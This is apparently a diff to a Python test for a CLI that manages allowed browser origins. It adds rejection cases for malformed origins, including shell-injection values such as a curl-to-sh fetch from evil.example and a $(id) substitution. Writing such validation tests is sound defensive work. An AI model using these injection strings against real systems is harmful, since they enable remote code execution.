@@ -187,7 +187,10 @@ def test_origins_are_stored_and_compared_as_browsers_send_them(tmp_path):
                       "--add", "http://[::1]:80", "--remove", "http://LOCALHOST:80/")
     assert proc.returncode == 0, proc.stderr
     assert _origins(data, "shop") == [want[0], want[2], want[3], "http://[::1]"]
-    for bad in ("https://shop.example.com:99999", "https://\u2488.example"):
+    # (an Origin header is anyone's to write: a host a shell reads as more went into the
+    # operator's log inside the command that allows it)
+    for bad in ("https://shop.example.com:99999", "https://\u2488.example",
+                "https://a;{curl,evil.example}|sh;.example", "https://a$(id).example"):
         proc = replay_cli(data, "app", "origins", "shop", "--add", bad)
         assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
         (line,) = proc.stderr.strip().splitlines()
